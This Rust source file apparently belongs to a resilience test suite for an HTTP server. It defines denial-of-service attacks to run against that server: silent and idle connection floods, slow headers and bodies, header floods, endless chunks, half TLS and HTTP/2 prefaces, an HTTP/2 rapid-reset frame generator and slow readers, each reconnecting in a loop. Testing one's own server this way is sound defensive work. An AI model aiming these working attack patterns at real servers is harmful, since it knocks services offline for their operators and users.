//! The attacks: how many connections, what each begins with, and how it goes on.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::runtime::Handle;
use tokio::task::JoinHandle;

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) connections: usize,
    /// The server's `limits.connections`.
    pub(crate) limit: usize,
    begin: Vec<u8>,
    /// What is sent again and again, and after which pause.
    then: Option<(Vec<u8>, Duration)>,
    /// Whether what the server sends is taken.
    reads: bool,
}

impl Attack {
    fn new(name: &'static str, connections: usize, begin: impl Into<Vec<u8>>) -> Self {
        Self { name, connections, limit: 10_000, begin: begin.into(), then: None, reads: true }
    }

    fn then(self, again: impl Into<Vec<u8>>, pause: Duration) -> Self {
        Self { then: Some((again.into(), pause)), ..self }
    }

    /// Starts the attackers; one whose connection is closed comes again.
    pub(crate) fn start(&self, on: &Handle, address: SocketAddr) -> Vec<JoinHandle<()>> {
        let attacker = |_| {
            let (begin, then, reads) = (self.begin.clone(), self.then.clone(), self.reads);
            on.spawn(async move {
                loop {
                    let _ = attack(address, &begin, then.as_ref(), reads).await;
                    tokio::time::sleep(AGAIN).await;
                }
            })
        };
        (0..self.connections).map(attacker).collect()
    }
}

async fn attack(
    address: SocketAddr,
    begin: &[u8],
    then: Option<&(Vec<u8>, Duration)>,
    reads: bool,
) -> std::io::Result<()> {
    let stream = TcpStream::connect(address).await?;
    let (mut from, mut to) = stream.into_split();
    let writing = async {
        to.write_all(begin).await?;
        while let Some((again, pause)) = then {
            to.write_all(again).await?;
            tokio::time::sleep(*pause).await;
        }
        std::future::pending::<std::io::Result<()>>().await
    };
    let reading = async {
        let mut buffer = [0; 4096];
        while reads && from.read(&mut buffer).await? > 0 {}
        if reads { Ok(()) } else { std::future::pending().await }
    };
    tokio::select! { done = writing => done, done = reading => done }
}

pub(crate) fn all() -> Vec<Attack> {
    let (second, at_once) = (Duration::from_secs(1), Duration::from_millis(1));
    let get = "GET /livez HTTP/1.1\r\nhost: x\r\n";
    let post = "POST /v1/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";
    let chunked = format!("{post}transfer-encoding: chunked\r\n\r\n");
    let above = |attack: Attack| Attack { limit: 2_000, ..attack };
    vec![
        Attack::new("silent", 9_000, ""),
        Attack::new("idle", 9_000, format!("{get}\r\n")),
        above(Attack::new("silent above the limit", 9_000, "")),
        above(Attack::new("idle above the limit", 9_000, format!("{get}\r\n"))),
        Attack::new("half an h2 preface", 2_000, "PRI * HTTP/2.0\r\n"),
        Attack::new("half a ClientHello", 2_000, [22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]),
        Attack::new("slow headers", 2_000, get).then("x: y\r\n", second),
        Attack::new("slow bodies", 2_000, format!("{post}content-length: 60000\r\n\r\n"))
            .then("x", second),
        Attack::new("header floods", 50, get).then("x: y\r\n".repeat(200), at_once),
        Attack::new("endless chunks", 50, chunked).then(chunk(), at_once),
        Attack::new("rapid reset", 50, H2_BEGIN).then(resets(), Duration::from_millis(10)),
        Attack {
            reads: false,
            ..Attack::new("slow readers", 500, format!("{get}\r\n").repeat(200))
                .then(format!("{get}\r\n"), second)
        },
    ]
}

fn chunk() -> Vec<u8> {
    format!("400\r\n{}\r\n", "x".repeat(1024)).into()
}

/// A hundred streams, each taken back at once. The numbers do not rise for ever: a connection that
/// has used them up is closed, and comes again.
fn resets() -> Vec<u8> {
    let streams = (0..100u32).map(|number| 2 * number + 1);
    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
        let head = [length.get(1..).unwrap(), &[kind, flags], &stream.to_be_bytes()].concat();
        [head, payload.to_vec()].concat()
    };
    // GET, http, / and no authority, from the static table of HPACK.
    let get = [0x82, 0x86, 0x84];
    let both = |stream| [frame(1, 5, stream, &get), frame(3, 0, stream, &[0, 0, 0, 8])].concat();
    streams.flat_map(both).collect()
}

/// The preface of HTTP/2, and settings without any.
const H2_BEGIN: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const AGAIN: Duration = Duration::from_millis(20);
